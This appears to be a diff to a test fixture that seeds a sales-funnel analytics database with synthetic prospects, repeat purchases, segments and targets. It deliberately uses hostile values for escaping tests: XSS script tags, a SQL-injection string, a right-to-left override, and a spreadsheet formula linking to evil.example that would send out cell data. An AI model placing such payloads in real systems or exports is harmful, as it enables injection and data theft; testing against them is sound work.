@@ -11,6 +11,7 @@ from clickhouse_driver import Client
 from funnel.definition import load_funnels
 from journey.funnel_files import PRESETS
 from sinks.funnels import write_funnels
+from sinks.given import SEGMENTS, TARGETS, Key, give
 from sinks.refresh import refresh
 
 SCRIPT = "<script>document.title='harmed'</script><img src=x onerror=\"document.title='harmed'\">"
@@ -18,9 +19,12 @@ LONG = "x'\"<b>&amp;\\" * 1_000
 RTL = "\u202eevil\u202c مرحبا"
 EMOJI = "🚀🧪👩‍👩‍👧 campaign"
 CONTROLS = "tab\tline\nback\\slash {campaign:String} ' OR 1=1 --"
+FORMULA = '=HYPERLINK("https://evil.example/"&A1)'
 HOSTILE = (SCRIPT, LONG, RTL, EMOJI, CONTROLS)
 CAMPAIGNS = ("", "spring", *HOSTILE)
 CANARY_EMAIL, CANARY_PHONE = "canary@personal.example", "+14155550100"
+LEFT = "-left behind"
+"""An account that somebody bought for, who is with another one now."""
 FUNNEL = "sales"
 _STAGES = ("awareness", "interest", "consideration", "purchase")
 _MOVE = (
@@ -34,11 +38,16 @@ def prospect(number: int) -> uuid.UUID:
     return uuid.uuid5(uuid.NAMESPACE_URL, f"prospect {number}")
 
 
+def account_of(campaign: str) -> str:
+    """Whom the prospects of a campaign work for: names as nobody should trust, too."""
+    return campaign or FORMULA
+
+
 def fill(client: Client, now: datetime | None = None) -> None:
     """Insert the population into migrated tables, and bring the aggregates up to it.
 
     Prospect n opens a visit in campaign n modulo their number; n modulo 5 says what becomes of it: won, lost, expired, sent back and waiting,
-    stalled. The first one has identifiers.
+    stalled. Every second who won buys again. The first one has identifiers.
     """
     opened = (now or datetime.now(UTC)).replace(microsecond=0) - timedelta(days=40)
     write_funnels(client, load_funnels([PRESETS / "sales.toml"]))
@@ -51,6 +60,7 @@ def fill(client: Client, now: datetime | None = None) -> None:
         fate = number % 5
         if fate == 0:
             steps += [("advance", "interest", "consideration"), ("advance", "consideration", "purchase")]
+            steps += [("repeat", "purchase", "purchase")] if number % 10 == 0 else []
         elif fate == 1:
             steps += [("advance", "interest", "consideration"), ("lost", "consideration", "lost")]
         elif fate == 2:
@@ -60,7 +70,7 @@ def fill(client: Client, now: datetime | None = None) -> None:
         for step, (kind, source, target) in enumerate(steps):
             moves.append(
                 (FUNNEL, 1, prospect(number), 1, step, kind, source, target, at + timedelta(days=3 * step), at, 259_200.0 if step else 0.0,
-                 "website", f"event {number}.{step}", channel, "page_view", campaign, channel, campaign, f"acme {campaign[:20]}",
+                 "website", f"event {number}.{step}", channel, "page_view", campaign, channel, campaign, LEFT if number == 35 else account_of(campaign),
                  100 if target == "purchase" else 0, "EUR" if target == "purchase" else "", SCRIPT if kind == "lost" else "",
                  "Zoë <b>", 1, 0)
             )  # fmt: skip
@@ -68,7 +78,7 @@ def fill(client: Client, now: datetime | None = None) -> None:
         stage = "" if fate < 3 else "interest"
         status = ("won", "lost", "expired", "open", "open")[fate]
         stalled = end + timedelta(days=10) if fate == 4 else None
-        standings.append((FUNNEL, prospect(number), stage, 1, status, end, end, f"acme {campaign[:20]}", stalled, 1, 0))
+        standings.append((FUNNEL, prospect(number), stage, 1, status, end, end, account_of(campaign), stalled, 1, 0))
     client.execute(f"INSERT INTO stage_transitions ({_MOVE}) VALUES", moves)
     client.execute(
         "INSERT INTO prospects (funnel, prospect_id, stage, visit, status, stage_entered_at, last_activity_at, account_id, stalled_since, revision, is_deleted) VALUES",
@@ -112,8 +122,22 @@ def fill(client: Client, now: datetime | None = None) -> None:
         "INSERT INTO dead_letters (origin_topic, origin_partition, origin_offset, reason, stage, message, key, value, kafka_time) VALUES",
         [("web-events", 0, 1, "undecodable", "intake", "x", CANARY_EMAIL, CANARY_EMAIL, opened)],
     )
+    give(client, SEGMENTS, {(account_of(name),): (f"@{name}",) for name in HOSTILE})
+    give(client, TARGETS, _targets(opened))
     _stand_in(client)
     refresh(client)
+
+
+def _targets(opened: datetime) -> dict[Key, Key]:
+    """One for each metric and period, and for each hostile name one that names a campaign."""
+    month = opened.date().replace(day=1)
+    ends = (opened + timedelta(days=50)).date()
+    return {
+        ("Entries",): (FUNNEL, "entered", "interest", "", "monthly", None, month, None, 20.0),
+        ("Revenue",): (FUNNEL, "revenue", "", "EUR", "monthly", None, month, None, 1_000.0),
+        ("Rate",): (FUNNEL, "conversion_rate", "", "", "monthly", None, month, None, 0.5),
+        **{(name,): (FUNNEL, "won", "", "", "campaign", name, opened.date(), ends, 1.0) for name in HOSTILE},
+    }
 
 
 _AGREED = {
